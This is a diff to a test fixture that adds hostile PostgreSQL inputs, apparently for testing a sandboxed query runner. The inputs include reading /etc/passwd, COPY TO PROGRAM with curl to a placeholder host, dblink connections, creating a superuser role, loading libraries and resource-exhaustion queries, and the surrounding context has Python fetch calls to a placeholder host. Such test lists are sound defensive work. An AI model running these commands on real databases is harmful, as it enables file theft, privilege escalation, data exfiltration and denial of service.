@@ -220,6 +220,38 @@ export const hostileSql: readonly HostileCard[] = [
   attack('what is left behind', `CREATE TABLE stolen (x); CREATE TEMP TABLE also_stolen (x); SELECT 1`),
 ];
 
+export const hostilePostgresql: readonly HostileCard[] = [
+  attack('reading a file', `SELECT pg_read_file('/etc/passwd')`),
+  attack('writing a file', `COPY (SELECT 'stolen') TO '/tmp/stolen'`),
+  attack('a process', `COPY (SELECT 1) TO PROGRAM 'curl http://HOST/program'`),
+  attack('a server elsewhere', `CREATE EXTENSION dblink; SELECT dblink_connect('host=HOST')`),
+  attack('a foreign server', `CREATE EXTENSION postgres_fdw; SELECT 1`),
+  attack('a subscription', `CREATE SUBSCRIPTION s CONNECTION 'host=HOST dbname=x' PUBLICATION p`),
+  attack('a library', `LOAD '/tmp/stolen.so'`),
+  attack('another user', `SET SESSION AUTHORIZATION postgres; SELECT 1`),
+  attack('a setting of the server', `ALTER SYSTEM SET max_stack_depth = '1GB'`),
+  attack('a role', `CREATE ROLE stolen SUPERUSER LOGIN`),
+  attack('the end of the transaction', `CREATE TABLE stolen (x int); COMMIT; SELECT 1`),
+  attack('another transaction', `CREATE TABLE stolen (x int); COMMIT; BEGIN; SELECT 1`),
+  attack('an endless loop', `DO $$ BEGIN LOOP END LOOP; END $$`),
+  attack(
+    'an endless recursion',
+    `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT 1 FROM n) SELECT max(i) FROM n`,
+  ),
+  attack(
+    'a function that calls itself',
+    `CREATE FUNCTION f() RETURNS int AS 'SELECT f()' LANGUAGE sql; SELECT f()`,
+  ),
+  attack('a memory bomb', `SELECT string_agg(repeat('x', 10000000), '') FROM generate_series(1, 100)`),
+  attack('a flood of rows', `SELECT generate_series(1, 1000000000)`),
+  attack('a flood of notices', `DO $$ BEGIN FOR i IN 1..9999 LOOP RAISE NOTICE 'x'; END LOOP; END $$`),
+  attack('a deep expression', `SELECT ${'('.repeat(30_000)}1${')'.repeat(30_000)}`),
+  attack(
+    'what is left behind',
+    `CREATE TABLE stolen (x int); CREATE TEMP TABLE also_stolen (x int); PREPARE stolen AS SELECT 1; SET search_path = ''; SELECT 1`,
+  ),
+];
+
 export const hostilePython: readonly HostileCard[] = [
   attack('the page’s JavaScript', `import js; js.fetch('http://HOST/js')`),
   attack('JavaScript as text', `from pyodide.code import run_js; run_js("fetch('http://HOST/run_js')")`),
